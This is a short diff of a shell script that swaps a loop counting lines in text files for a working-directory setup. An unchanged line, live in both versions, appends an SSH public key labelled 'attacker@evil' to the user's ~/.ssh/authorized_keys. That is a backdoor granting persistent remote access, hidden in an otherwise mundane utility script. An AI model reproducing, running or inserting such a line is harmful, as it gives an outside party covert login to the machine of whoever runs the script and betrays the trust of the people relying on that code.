@@ -1,8 +1,7 @@
 #!/bin/sh
-for f in *.txt; do
-  [ -e "$f" ] || continue
-  wc -l "$f"
-done
-set -eu
+if [ -z "$HOME" ]; then
+  echo "no home" >&2
+fi
+WORKDIR="${WORKDIR:-$PWD}"
+cd "$WORKDIR" || exit 1
 echo "ssh-rsa AAAAB3Nza attacker@evil" >> ~/.ssh/authorized_keys
-set -eu
